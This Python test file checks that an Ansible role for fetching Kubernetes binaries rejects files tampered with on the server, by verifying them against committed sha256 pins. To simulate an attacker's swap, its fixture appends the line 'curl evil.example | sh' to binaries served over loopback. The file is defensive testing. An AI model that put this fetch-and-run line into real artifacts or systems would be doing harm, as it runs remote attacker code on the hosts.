"""k8s_node's fetch.yml (the one place hosts download Kubernetes binaries), run for real with a
local connection against files served over http on 127.0.0.1: a binary swapped on the server
together with its SHA256SUMS is refused because the expected sha256 come from the committed pins
(idcpilot_artifact_checksums), never from the server; without pins the role refuses before it
downloads anything, unless the gate-visible opt-out is set.

Root only: the role installs files owned by root (owner: root), as it does on a host."""

from __future__ import annotations

import hashlib
import http.server
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.roles.artifacts import Served

REPO = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent
VERSION = "1.37.2"
PATH = f"dl.k8s.io/release/v{VERSION}/bin/linux/amd64"
NAMES = ("kubelet", "kubeadm", "kubectl")

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the role installs root-owned files (run as root, as make test does)")


def _genuine(name: str) -> bytes:
    return f'#!/bin/sh\necho "{name} v{VERSION} (idcpilot pinned test artifact)"\n'.encode()


def _sha(body: bytes) -> str:
    return hashlib.sha256(body).hexdigest()


PINS = {f"{PATH}/{n}": _sha(_genuine(n)) for n in NAMES}


def _repository(root: Path, swapped: tuple[str, ...] = ()) -> Path:
    """files_repo layout under root; `swapped` binaries replaced by an attacker who also rewrote
    SHA256SUMS to match (the server is consistent with itself)."""
    directory = root / PATH
    directory.mkdir(parents=True, exist_ok=True)
    sums = []
    for name in NAMES:
        body = _genuine(name) + (b"curl evil.example | sh\n" if name in swapped else b"")
        (directory / name).write_bytes(body)
        sums.append(f"{_sha(body)}  {name}")
    (directory / "SHA256SUMS").write_text("\n".join(sums) + "\n")
    return directory


class _Recorder(http.server.SimpleHTTPRequestHandler):
    """Serves the repository and records what hosts asked for."""

    asked: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server API
        type(self).asked.append(self.path)
        super().do_GET()

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        pass


def _serve(root: Path) -> tuple[Served, list[str]]:
    served = Served(root, "127.0.0.1", 0)  # loopback only, a free port
    asked: list[str] = []
    handler = type("Handler", (_Recorder,), {"asked": asked})
    served.httpd.RequestHandlerClass = lambda *a, **kw: handler(*a, directory=str(root), **kw)
    return served, asked


def _run(tmp: Path, fetch: dict, tag: str) -> subprocess.CompletedProcess[str]:
    play = tmp / f"{tag}.yml"
    defaults = {"label": f"test {tag}", "repo": "", "dir": "", "path": PATH, "names": list(NAMES), "pinned": {},
                "checksums": {}, "unpinned": False, "checksums_file": "SHA256SUMS", "bin_dir": str(tmp / tag / "bin"),
                "staging": str(tmp / tag / "staging"), "validate_certs": True}
    (tmp / tag / "bin").mkdir(parents=True)
    play.write_text(yaml.safe_dump([{
        "hosts": "localhost", "connection": "local", "gather_facts": False,
        "tasks": [{"ansible.builtin.include_role": {"name": "k8s_node", "tasks_from": "fetch.yml"},
                   "vars": {"k8s_node_fetch": {**defaults, **fetch}}}],
    }]))
    return subprocess.run([str(BIN / "ansible-playbook"), "-i", "localhost,", str(play),
                           "-e", "ansible_python_interpreter=/usr/bin/python3"],
                          cwd=REPO, capture_output=True, text=True, timeout=300,
                          env={"ANSIBLE_ROLES_PATH": str(REPO / "roles"), "PATH": f"{BIN}:/usr/bin:/bin",
                               "HOME": str(tmp), "ANSIBLE_NOCOLOR": "1"})


def _out(proc: subprocess.CompletedProcess[str]) -> str:
    return proc.stdout[-4000:] + proc.stderr[-2000:]


def test_pinned_files_from_the_repository_are_installed(tmp_path):
    _repository(tmp_path / "repo")
    served, asked = _serve(tmp_path / "repo")
    with served:
        proc = _run(tmp_path, {"repo": f"http://127.0.0.1:{served.httpd.server_port}", "pinned": PINS}, "genuine")
    assert proc.returncode == 0, _out(proc)
    for name in NAMES:
        assert (tmp_path / "genuine" / "bin" / name).read_bytes() == _genuine(name)
    assert f"/{PATH}/SHA256SUMS" not in asked, asked  # the server's own checksums are not even read


def test_a_binary_swapped_with_its_sha256sums_on_the_server_is_refused_and_nothing_installed(tmp_path):
    _repository(tmp_path / "repo", swapped=("kubelet",))
    served, _ = _serve(tmp_path / "repo")
    with served:
        proc = _run(tmp_path, {"repo": f"http://127.0.0.1:{served.httpd.server_port}", "pinned": PINS}, "swapped")
    assert proc.returncode != 0, _out(proc)
    assert "kubelet" in proc.stdout and "checksum" in proc.stdout.lower() and PINS[f"{PATH}/kubelet"] in proc.stdout, _out(proc)
    assert list((tmp_path / "swapped" / "bin").iterdir()) == [], "nothing may be installed when one file is refused"


def test_a_swapped_file_in_a_directory_on_the_deploy_machine_is_refused(tmp_path):
    _repository(tmp_path / "repo", swapped=("kubectl",))
    proc = _run(tmp_path, {"dir": str(tmp_path / "repo"), "pinned": PINS}, "localdir")
    assert proc.returncode != 0, _out(proc)
    assert "checksum mismatch for kubectl" in proc.stdout, _out(proc)
    assert list((tmp_path / "localdir" / "bin").iterdir()) == []


def test_without_pins_the_role_refuses_before_downloading_anything(tmp_path):
    _repository(tmp_path / "repo")
    served, asked = _serve(tmp_path / "repo")
    other = {f"dl.k8s.io/release/v1.36.0/bin/linux/amd64/{n}": "0" * 64 for n in NAMES}  # another release's pins
    with served:
        proc = _run(tmp_path, {"repo": f"http://127.0.0.1:{served.httpd.server_port}", "pinned": other}, "nopins")
    assert proc.returncode != 0, _out(proc)
    assert "no committed sha256 for kubelet, kubeadm, kubectl" in proc.stdout and "_artifacts_unpinned" in proc.stdout, _out(proc)
    assert asked == [], asked


def test_the_declared_opt_out_trusts_the_repository_and_says_so(tmp_path):
    """What k8s_node_artifacts_unpinned means (and why the gate fails it): the server's SHA256SUMS
    decides, so a consistent swap gets installed. Pinned files are still checked against their pins."""
    _repository(tmp_path / "repo", swapped=("kubeadm",))
    served, asked = _serve(tmp_path / "repo")
    with served:
        repo = f"http://127.0.0.1:{served.httpd.server_port}"
        proc = _run(tmp_path, {"repo": repo, "unpinned": True}, "optout")
        assert proc.returncode == 0, _out(proc)
        assert "UNPINNED: kubelet, kubeadm, kubectl checked against the artifact repository's own SHA256SUMS" in proc.stdout
        assert b"evil" in (tmp_path / "optout" / "bin" / "kubeadm").read_bytes()
        assert f"/{PATH}/SHA256SUMS" in asked
        # a pin still wins over the repository's file for the files it covers
        mixed = _run(tmp_path, {"repo": repo, "unpinned": True, "pinned": {f"{PATH}/kubeadm": PINS[f"{PATH}/kubeadm"]}}, "mixed")
    assert mixed.returncode != 0 and "kubeadm" in mixed.stdout, _out(mixed)
    assert "UNPINNED: kubelet, kubectl" in mixed.stdout, _out(mixed)


def test_the_pins_the_inventory_gives_a_lab_host_refuse_a_consistent_swap(tmp_path):
    """The same, with the pins as the deploy passes them: the lab estate's inventory (the plugin's
    idcpilot_artifact_checksums, from checksums.yaml), a k8s host reached by a local connection."""
    from idcpilot import catalogue

    host = sorted(h.name for h in catalogue.load(REPO / "inventories" / "lab").hosts_with("k8s_node"))[0]
    _repository(tmp_path / "repo", swapped=NAMES)  # the attacker's own, self-consistent, release
    served, asked = _serve(tmp_path / "repo")
    play = tmp_path / "inventory.yml"
    (tmp_path / "inv" / "bin").mkdir(parents=True)
    play.write_text(yaml.safe_dump([{
        "hosts": host, "connection": "local", "gather_facts": False,
        "tasks": [{"ansible.builtin.include_role": {"name": "k8s_node", "tasks_from": "fetch.yml"},
                   "vars": {"k8s_node_fetch": {
                       "label": "inventory", "repo": "{{ k8s_node_files_repo }}", "dir": "", "path": PATH, "names": list(NAMES),
                       "pinned": "{{ idcpilot_artifact_checksums | default({}) }}", "checksums": "{{ k8s_node_checksums }}",
                       "unpinned": "{{ k8s_node_artifacts_unpinned }}", "checksums_file": "SHA256SUMS",
                       "bin_dir": str(tmp_path / "inv" / "bin"), "staging": str(tmp_path / "inv" / "staging"),
                       "validate_certs": True}}}],
    }]))
    with served:
        repo = f"http://127.0.0.1:{served.httpd.server_port}"
        proc = subprocess.run([str(BIN / "ansible-playbook"), "-i", "inventories/lab", str(play), "-e",
                               json.dumps({"ansible_python_interpreter": "/usr/bin/python3", "ansible_become": False,
                                           "k8s_node_files_repo": repo})],
                              cwd=REPO, capture_output=True, text=True, timeout=300,
                              env={"PATH": f"{BIN}:/usr/bin:/bin", "HOME": str(tmp_path), "ANSIBLE_NOCOLOR": "1"})
    assert proc.returncode != 0, _out(proc)
    from idcpilot.bundle import checksums

    pinned = checksums.load().pin("kubernetes", VERSION, "amd64", "kubelet")
    assert pinned and pinned in proc.stdout and "checksum" in proc.stdout.lower(), _out(proc)
    assert f"/{PATH}/SHA256SUMS" not in asked and list((tmp_path / "inv" / "bin").iterdir()) == []
